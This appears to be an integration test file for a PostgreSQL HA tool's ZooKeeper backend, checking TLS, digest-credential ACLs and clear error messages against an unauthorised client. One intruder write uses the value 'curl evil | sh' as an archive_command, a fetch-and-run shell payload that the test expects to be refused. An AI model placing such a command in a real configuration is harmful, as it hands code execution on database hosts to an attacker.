"""ZooKeeper secured: only the cluster's credential reads or writes its znodes, over TLS only.

The test server (tests/support/zookeeper.py) listens only on a TLS port that requires a client
certificate; pgha's clients log in with a digest credential and create znodes with an ACL that
names that user alone.  Someone who reaches ZooKeeper (even with a valid client certificate) but
lacks the credential can neither read, write, create nor delete the cluster's keys; a tree that
anyone may write is refused when pgha connects; and a wrong CA, no credential or a wrong password
are one line each.
"""

from __future__ import annotations

import secrets
from collections.abc import Callable, Iterator

import pytest
from kazoo.client import KazooClient
from kazoo.exceptions import NoAuthError
from kazoo.security import OPEN_ACL_UNSAFE

from pgha.dcs.base import DCSError
from pgha.dcs.zk_secure import TlsHandler
from pgha.dcs.zookeeper import ZooKeeperKV
from pgha.demo import zkserver
from tests.support.zookeeper import ZooKeeperServer

pytestmark = pytest.mark.integration


def _intruder(server: ZooKeeperServer, auth: list[tuple[str, str]] | None = None) -> KazooClient:
    """A raw kazoo client over the server's TLS, with pgha's client certificate but not its credential."""
    client = KazooClient(hosts=server.hosts[0], use_ssl=True, handler=TlsHandler(server.security.context()),
                         auth_data=auth or [])
    client.start(timeout=10)
    return client


@pytest.fixture
def cluster_kv(zookeeper: ZooKeeperServer) -> Iterator[tuple[ZooKeeperKV, str]]:
    prefix = f"/sec-{secrets.token_hex(4)}"
    kv = zookeeper.client(root=prefix)
    kv.put(f"{prefix}/main/config", b'{"archive_command": "secret"}')
    try:
        yield kv, prefix
    finally:
        kv.close()


def test_without_the_credential_nothing_can_be_read_or_written(zookeeper: ZooKeeperServer,
                                                               cluster_kv: tuple[ZooKeeperKV, str]) -> None:
    kv, prefix = cluster_kv
    key = f"{prefix}/main/config"
    for auth in (None, [("digest", "pgha:wrong-password")], [("digest", "intruder:pw")]):
        intruder = _intruder(zookeeper, auth)
        attempts: dict[str, Callable[[KazooClient], object]] = {
            "read": lambda c: c.get(key),
            "list": lambda c: c.get_children(prefix),
            "write": lambda c: c.set(key, b'{"archive_command": "curl evil | sh"}'),
            "create": lambda c: c.create(f"{prefix}/main/leader", b"intruder"),
            "delete": lambda c: c.delete(key),
            "acl": lambda c: c.set_acls(key, OPEN_ACL_UNSAFE),
        }
        try:
            for what, attempt in attempts.items():
                with pytest.raises(NoAuthError):
                    attempt(intruder)
                    pytest.fail(f"a client without the credential could {what} {key}")
        finally:
            intruder.stop()
            intruder.close()
    got = kv.get(key)
    assert got is not None and got.value == b'{"archive_command": "secret"}'
    # Every znode pgha made names the credential's user alone.
    owner = _intruder(zookeeper, [("digest", f"pgha:{zookeeper.security.password}")])
    try:
        for path in (prefix, f"{prefix}/main", key):
            acls, _ = owner.get_acls(path)
            assert [(a.id.scheme, a.id.id.split(":")[0], a.perms) for a in acls] == [("digest", "pgha", 31)], path
    finally:
        owner.stop()
        owner.close()


def test_a_client_without_a_certificate_is_refused(zookeeper: ZooKeeperServer) -> None:
    kv = zookeeper.client(timeout=0.5, cert="", key="")
    try:
        with pytest.raises(DCSError) as info:
            kv.get("/anything")
        assert str(info.value).startswith(f"ZooKeeper unreachable at {zookeeper.hosts[0]} (no session within")
    finally:
        kv.close()


def test_a_server_the_ca_did_not_sign_is_refused(zookeeper: ZooKeeperServer, tmp_path_factory:
                                                 pytest.TempPathFactory) -> None:
    other = zkserver.make_pki(tmp_path_factory.mktemp("other-ca"), ["127.0.0.1"])
    kv = zookeeper.client(timeout=0.5, cacert=str(other.ca))
    try:
        with pytest.raises(DCSError) as info:
            kv.get("/anything")
        message = str(info.value)
        assert "TLS: unable to get local issuer certificate); check dcs.zookeeper.cacert" in message, message
        assert "\n" not in message
    finally:
        kv.close()


def test_a_world_writable_tree_is_refused_on_connect(zookeeper: ZooKeeperServer) -> None:
    prefix = f"/open-{secrets.token_hex(4)}"
    owner = _intruder(zookeeper)
    try:
        owner.create(f"{prefix}/main/config", b"{}", acl=OPEN_ACL_UNSAFE, makepath=True)
        kv = zookeeper.client(root=prefix)
        try:
            with pytest.raises(DCSError) as info:
                kv.get(f"{prefix}/main/config")
            message = str(info.value)
            assert message.startswith(f"ZooKeeper: {prefix} and 2 more can be read and written by anyone"), message
            assert "\n" not in message and zookeeper.security.password not in message
        finally:
            kv.close()
    finally:
        owner.delete(prefix, recursive=True)
        owner.stop()
        owner.close()


def test_no_credential_or_a_wrong_one_is_one_line(zookeeper: ZooKeeperServer,
                                                  cluster_kv: tuple[ZooKeeperKV, str]) -> None:
    _, prefix = cluster_kv
    bare = ZooKeeperKV(zookeeper.hosts, 1.0)
    with pytest.raises(DCSError) as info:
        bare.get("/x")
    assert str(info.value).startswith("ZooKeeper: no credential (dcs.zookeeper.username and password)")
    wrong = zookeeper.client(root=f"{prefix}/main", password="not-the-password")
    try:
        with pytest.raises(DCSError) as info:
            wrong.get(f"{prefix}/main/config")
        message = str(info.value)
        assert message.startswith("ZooKeeper refused user 'pgha' a znode under"), message
        assert "not-the-password" not in message and "\n" not in message
    finally:
        wrong.close()
